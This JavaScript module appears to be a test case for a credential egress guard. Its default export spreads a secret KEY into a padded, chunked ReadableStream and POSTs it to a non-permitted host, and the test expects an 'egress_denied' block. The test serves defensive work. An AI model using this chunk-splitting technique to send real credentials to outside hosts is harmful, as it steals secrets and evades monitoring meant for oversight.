export const attempt = {
  tries: "to send an exposed value to another host, split across the chunks of a stream",
  blockedBecause: "a possible start of the value is held back until it is ruled out",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  mayBeSeen: ["POST /reached"],
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  const pieces = ["x".repeat(300_000), ...credentials.KEY, "y".repeat(300_000)];
  const body = new ReadableStream({
    pull(controller) {
      const piece = pieces.shift();
      if (piece === undefined) controller.close();
      else controller.enqueue(new TextEncoder().encode(piece));
    },
  });
  await fetch(`http://${other}/reached`, { method: "POST", body });
  return "got through";
};
